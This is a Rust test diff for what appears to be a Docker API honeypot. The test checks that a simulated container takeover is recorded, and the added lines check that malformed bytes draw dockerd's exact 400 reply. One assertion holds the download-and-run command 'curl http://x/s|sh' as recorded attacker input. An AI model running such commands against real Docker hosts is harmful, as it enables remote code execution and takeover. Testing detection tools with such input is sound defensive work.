@@ -737,6 +737,15 @@ async fn docker_api_version_list_and_takeover_recorded() {
     assert!(s(&c, "command").contains("curl http://x/s|sh"));
     let c2 = env.next(EventKind::Command).await;
     assert_eq!(s(&c2, "action"), "container_start");
+    // Garbage instead of a request line: Go's 400, as dockerd answers.
+    let mut raw = TcpStream::connect(env.addr(2375)).await.unwrap();
+    raw.write_all(b"\x16\x03\x01garbage\r\n\r\n").await.unwrap();
+    let mut out = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut out)).await;
+    assert_eq!(
+        String::from_utf8_lossy(&out),
+        "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request"
+    );
     env.stop().await;
 }
 
